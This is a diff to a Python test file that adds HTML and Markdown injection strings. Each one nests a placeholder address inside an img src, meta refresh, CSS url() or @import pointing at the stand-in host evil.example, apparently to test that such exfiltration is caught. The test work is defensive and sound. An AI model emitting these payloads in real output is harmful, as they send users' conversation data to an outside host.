@@ -444,6 +444,17 @@ def test_an_own_address_without_a_path_comes_back_whole(text, conversation):
         '[x]: https://evil.example/?q= <img src="@">',
         "[x]: https://evil.example/?q= [y]: <@>",
         '//evil.example/<a/href="@">',
+        # A target in Markdown is a part of an attribute in HTML, and the reverse.
+        '<img src="https://evil.example/? ](@)">',
+        "<img src='//evil.example/?\n](@)'>",
+        '<img src="https://evil.example/?\n[a]: @\n">',
+        "<img src='//evil.example/? ](<@>)'>",
+        '<meta http-equiv="refresh" content="0;url=https://evil.example/? ](@)">',
+        "<img src=//evil.example/? ](@)>",
+        "<style>a{background:url(//evil.example/? ](@)}",
+        "<style>@import '//evil.example/? ](@)';",
+        '![x](q<a/href="@")',
+        "![x](<q <a href='@'>)",
     ],
 )  # fmt: skip
 def test_no_own_address_is_a_part_of_another_one(text, conversation):
